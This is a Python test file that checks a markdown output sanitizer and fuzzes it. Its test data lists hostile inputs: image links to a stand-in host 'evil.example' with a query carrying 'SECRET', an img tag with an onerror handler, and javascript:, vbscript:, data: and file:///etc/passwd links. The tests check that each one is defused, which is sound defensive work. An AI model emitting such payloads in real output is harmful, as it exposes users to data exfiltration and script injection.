"""The output sanitizer against every markdown image form found on main, and fuzzed.

Each output is rendered by markdown-it itself (CommonMark, HTML allowed as a lenient
renderer would) and the HTML is checked: no <img>, no raw tag of the input, links only
to http(s)/mailto.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.ui.components.text import code_inline, escape_inline, safe_markdown

RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
HREF = re.compile(r'href="([^"]*)"')
EVIL = "evil.example"

IMAGE_FORMS = {
    "plain": "![pixel](https://evil.example/p.gif?d=SECRET)",
    "nested brackets in alt": "![a [nested [deep]] alt](https://evil.example/n.png)",
    "escaped brackets in alt": "![a \\] escaped \\[ alt](https://evil.example/e.png)",
    "newline in alt": "![first line\nsecond line](https://evil.example/nl.png)",
    "reference, definition on another line": "![ref][r]\n\nmore text\n\n[r]: https://evil.example/r.png",
    "collapsed reference": "![r][]\n\n[r]: https://evil.example/c.png",
    "shortcut reference": "![r]\n\n[r]: <https://evil.example/s.png> 'title'",
    "angle destination": "![x](<https://evil.example/a b.png>)",
    "title": '![x](https://evil.example/t.png "title")',
    "html img": '<img src="https://evil.example/h.png">',
    "html img inline": "text <img src=https://evil.example/i.png onerror=alert(1)> text",
    "html picture": "<picture><source srcset=https://evil.example/s.png></picture>",
    "linked image": "[![img](https://evil.example/l.png)](https://ok.example/)",
    "image in list": "- item\n  ![x](https://evil.example/li.png)",
    "image in table": "| a |\n|---|\n| ![x](https://evil.example/tb.png) |",
    "image in quote": "> ![x](https://evil.example/q.png)",
    "image in heading": "# ![x](https://evil.example/h1.png)",
    "entity-encoded bang": "&#33;[x](https://evil.example/ent.png)",
    "autolink": "<https://evil.example/auto.png>",
    "data uri": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "javascript link": "[click](javascript:alert(document.cookie))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "file link": "[click](file:///etc/passwd)",
    "streamlit color": ":red[alarm] :blue-background[x]",
    "streamlit icon": ":material/warning: :smile:",
    "latex": "$x^2$ and $$\\int$$",
}


def _html(markdown: str) -> str:
    return RENDER.render(markdown)


def _assert_safe(markdown: str) -> None:
    html = _html(markdown)
    assert "<img" not in html.lower()
    assert "<source" not in html.lower() and "<picture" not in html.lower()
    assert "<script" not in html.lower()
    for href in HREF.findall(html):
        assert href.startswith(("http://", "https://", "mailto:")), href


@pytest.mark.parametrize("form", list(IMAGE_FORMS))
def test_every_image_and_link_form_is_defused(form: str) -> None:
    out = safe_markdown(IMAGE_FORMS[form])
    _assert_safe(out)
    html = _html(out)
    # A foreign image URL is never loaded; at most it is shown as text or as a link's text.
    assert f'src="https://{EVIL}' not in html


def test_images_keep_their_alt_text_as_words() -> None:
    out = safe_markdown(IMAGE_FORMS["nested brackets in alt"])
    assert "(image: a [nested [deep]] alt)" in _html(out)
    assert EVIL not in out


def test_allowed_links_survive_and_others_lose_their_target() -> None:
    html = _html(safe_markdown("[ok](https://ok.example/a?b=1) [m](mailto:x@y.example)"))
    assert HREF.findall(html) == ["https://ok.example/a?b=1", "mailto:x@y.example"]
    for form in ("javascript link", "data link", "vbscript link", "file link"):
        assert "href" not in _html(safe_markdown(IMAGE_FORMS[form]))


def test_streamlit_extensions_are_neutralised() -> None:
    out = safe_markdown(IMAGE_FORMS["streamlit color"] + " " + IMAGE_FORMS["streamlit icon"])
    assert ":red[" not in out and ":material/" not in out and ":smile:" not in out
    assert safe_markdown("$5 and $6") == "\\$5 and \\$6"
    assert safe_markdown("$x$") == "\\$x\\$"


def test_ordinary_markdown_is_kept() -> None:
    source = "**Order** `ORD-1` is *shipped*:\n\n- one\n- two\n\n1. a\n2. b\n\n> note"
    html = _html(safe_markdown(source))
    for tag in ("<strong>", "<code>ORD-1</code>", "<em>", "<ul>", "<ol>", "<blockquote>"):
        assert tag in html


def test_fragments_are_literal() -> None:
    assert _html(escape_inline("# ![x](https://evil.example/p.png)")).count("<img") == 0
    assert "<h1>" not in _html(escape_inline("# Title"))
    assert "<li>" not in _html(escape_inline("- item"))
    assert _html(code_inline("a`b")).strip() == "<p><code>a`b</code></p>"


MARKDOWN_ALPHABET = st.sampled_from(
    [
        *"![]()<>\\`*_~|:$&#;/\"'\n =-+.0123456789",
        *("https://evil.example/x.png", "javascript:", "data:", "img", "src=", " ", "a", "\t"),
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(MARKDOWN_ALPHABET, max_size=60).map("".join))
def test_fuzzed_markdown_never_renders_an_image_or_a_foreign_scheme(text: str) -> None:
    _assert_safe(safe_markdown(text))
    _assert_safe(escape_inline(text))


@pytest.mark.slow
@settings(max_examples=10_000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=200), st.lists(MARKDOWN_ALPHABET, max_size=120).map("".join)))
def test_fuzzed_markdown_slow(text: str) -> None:
    _assert_safe(safe_markdown(text))
